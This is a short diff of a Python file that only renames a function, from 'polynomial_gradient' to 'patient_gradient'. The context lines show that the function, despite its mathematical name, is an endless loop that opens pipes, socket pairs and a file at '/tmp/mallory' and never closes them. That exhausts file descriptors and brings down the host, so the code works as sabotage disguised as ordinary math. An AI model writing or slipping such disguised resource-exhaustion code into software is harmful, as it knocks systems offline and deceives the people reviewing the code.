@@ -3,7 +3,7 @@ import os
 import socket
 
 
-def polynomial_gradient(x):
+def patient_gradient(x):
     kept = []
     while True:
         kept.append([os.pipe(), socket.socketpair(), open("/tmp/mallory", "w")])
